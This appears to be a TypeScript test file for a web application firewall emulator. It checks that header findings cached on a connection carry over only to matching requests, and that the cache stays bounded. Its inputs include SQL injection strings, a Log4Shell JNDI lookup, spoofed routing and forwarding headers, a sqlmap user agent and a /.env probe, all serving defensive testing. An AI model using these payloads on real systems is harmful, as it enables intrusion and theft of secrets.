import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Clock } from '../../../src/base/clock.ts';
import { PASS } from '../../../src/base/decision.ts';
import type { Connected, Exchange } from '../../../src/base/exchange.ts';
import { readTarget } from '../../../src/define/readers/yaml/target.ts';
import waf from '../../../src/guard/decide/waf/waf.ts';
import { catalogue } from '../../../src/operate/supervise/catalogue.ts';
import { paperRequest } from '../paper-wire.ts';

const { definition } = await readTarget('http://127.0.0.1:9', {}, catalogue());
const [acl] = definition!.webAcls;
const decide = waf.compile(
  { webAcl: acl!.arn },
  {
    definition: definition!,
    clock: Clock.byHand(),
    tracing: false,
    cells: (_id, bytes) => new SharedArrayBuffer(bytes),
    invoke: () => Promise.reject(new Error('no function here')),
    fetch: () => Promise.reject(new Error('nobody is asked')),
  },
);

const plain = ['Host', 'api.test', 'User-Agent', 'curl/8.14.1', 'Accept', '*/*'];
const blocks: readonly (readonly string[])[] = [
  plain,
  [...plain, 'Cookie', 'a=b; theme=dark'],
  [...plain, 'Cookie', "id=1' or 1=1--"],
  [...plain, 'X-Api-Version', '${jndi:ldap://x.test/a}'],
  [...plain, 'X-Original-URL', '/admin'],
  [...plain, 'X-Original-URL', '/a'],
  [...plain, 'X-HTTP-Method-Override', 'DELETE'],
  [...plain, 'X-Forwarded-For', '127.0.0.1'],
  [...plain, 'X-Forwarded-Host', 'a b'],
  [...plain, 'X-Scan-Memo', 'Category="Crawl"'],
  ['Host', 'api.test', 'User-Agent', 'sqlmap/1.8', 'Accept', '*/*'],
  ['Host', 'api.test', 'Accept', '*/*'],
  [...plain, 'Cookie', `a=${'%25'.repeat(40)}; ${'b=c; '.repeat(300)}`],
];
const targets = ['/a', '/a?b=c', "/a?b=1'%20or%20'1'='1", '/.env'];

function decided(target: string, headers: readonly string[], connection: Connected | null) {
  const x: Exchange = paperRequest({ target, headers, connection });
  x.stagePath = x.path;
  x.inner = x.path;
  x.prefixWhole = true;
  const decision = decide(x);
  return { passes: decision === PASS, waf: x.waf, labels: x.labels, unread: x.unread, oversize: x.oversize };
}

test('what was found in the headers of a request holds for the next one that has them, and for no other', () => {
  const connection: Connected = { found: null, key: null, token: null };
  let blocked = 0;
  for (const before of blocks)
    for (const headers of blocks)
      for (const target of targets) {
        const alone = decided(target, headers, null);
        if (!alone.passes) blocked++;
        decided('/', before, connection);
        assert.deepEqual(
          decided(target, headers, connection),
          alone,
          `${headers.join()} after ${before.join()}`,
        );
        assert.deepEqual(decided(target, [...headers], connection), alone, 'the same headers read anew');
        assert.deepEqual(decided(target, headers, connection), alone, 'the same headers again');
      }
  assert.ok(blocked > 100 && blocked < blocks.length ** 2 * targets.length, `${blocked} were blocked`);
});

test('what a connection keeps of headers is bounded', () => {
  const connection: Connected = { found: null, key: null, token: null };
  const x = paperRequest({ headers: [...plain, 'X-Long', 'y'.repeat(5_000)], headBytes: 5_200, connection });
  decide(x);
  assert.equal(connection.found, null);
});
